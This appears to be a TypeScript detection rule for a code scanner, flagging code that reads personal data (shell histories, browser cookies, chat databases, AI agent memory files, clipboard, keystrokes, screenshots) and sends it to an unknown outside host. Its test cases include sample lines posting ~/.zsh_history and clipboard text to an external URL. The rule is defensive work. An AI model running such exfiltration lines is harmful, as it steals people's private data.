/** EX-02: what a person does, writes or keeps reaches a call that sends it to a host of unknown owners, in any language. */
import { inFile, weighed } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import type { Severity } from '../../../schema/vocabulary.ts';
import { home, personal } from '../../vocabulary/homes.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { isStrangers } from '../../hosts/whose-host.ts';
import { outwardRoads } from '../../vocabulary/roads.ts';
import { isTestFile, reachedCall } from './reached.ts';

const histories = String.raw`\.(?:bash|zsh|python|psql|mysql|node_repl|sqlite)_history\b|ConsoleHost_history|fish_history`;
const browsers = String.raw`(?:Chrome|Chromium|Brave|Edge|Firefox|Safari|Arc)\b[^\n]{0,80}\b(?:History|Bookmarks|Cookies|Web Data|places\.sqlite)\b|\bplaces\.sqlite\b`;
const messages = String.raw`\bMessages["'/, ]{1,6}chat\.db\b|\bNoteStore\.sqlite\b|\bAddressBook-v22|\bSignal["'/, ]{1,6}(?:sql|config)|["'/\\]tdata\b|\.thunderbird\b|\bLibrary["'/, ]{1,6}Mail\b`;
const agents = [
  String.raw`\.claude["'/, ]{1,6}(?:projects|history|todos|memory)|\.codex["'/, ]{1,6}(?:sessions|history)|\.(?:openclaw|clawdbot|moltbot)["'/, ]{1,6}(?:sessions|credentials)`,
  String.raw`|\bclaude_desktop_config\.json|\.aider\.chat\.history|\b(?:SOUL|MEMORY|IDENTITY|USER)\.md\b`,
].join('');
const captures = [
  String.raw`\bpyperclip\.paste\(|\bclipboard\.(?:readText|readSync|read)\(|\bGet-Clipboard\b|\bpbpaste\b|\bxclip\b[^\n]{0,30}-o\b|\bwl-paste\b|\bImageGrab\.grab\(`,
  String.raw`|\bpyautogui\.screenshot\(|\bCopyFromScreen\(|\bscreencapture\s|\bpynput\b|\bGetAsyncKeyState\b|\bon_press\s?=|\buiohook\b|\bsounddevice\b[^\n]{0,30}\.rec`,
  String.raw`\(|\barecord\s`,
].join('');
/** What nothing but spying takes to a third party. */
const grave = new RegExp(`${histories}|${browsers}|${messages}|pynput|GetAsyncKeyState|on_press|uiohook`);

function byStranger({ match, region: { text, file }, owner, severity }: RowHit): Severity | null {
  if (isTestFile(file)) return null;
  const call = reachedCall(text, match[0], outwardRoads);
  if (call === null) return null;
  const url = firstUrl(call.text) ?? firstUrl(text);
  if (url === null) return 'medium';
  if (!isStrangers(url, owner)) return null;
  return grave.test(match[0]) ? 'high' : severity;
}

/** Rows of EX-02. */
export const privateSent: readonly Row[] = [
  row('what a person does, writes or keeps is sent to a host of unknown owners', {
    in: ['script', 'decoded', 'hidden'],
    within: 'block',
    match: exactPattern(
      raw(`${histories}|${browsers}|${messages}|${agents}|${captures}|`),
      raw(String.raw`${home}[^\n]{0,40}${personal}`),
    ),
    severity: 'medium',
    weigh: byStranger,
    catches: [
      weighed(
        'high',
        inFile(
          'scripts/sum.rb',
          'past = File.read(File.expand_path("~/.zsh_history"))',
          'Net::HTTP.post(URI("https://in.farrowmere.io/v1"), past)',
        ),
      ),
      inFile(
        'scripts/sum.py',
        'text = pyperclip.paste()',
        'requests.post("https://in.farrowmere.io/v1", data=text)',
      ),
    ],
    spares: [
      inFile('scripts/sum.py', 'text = pyperclip.paste()', 'print(len(text))'),
      inFile(
        'scripts/sum.py',
        'text = pyperclip.paste()',
        'requests.post("http://localhost:8080/v1", data=text)',
      ),
    ],
  }),
];
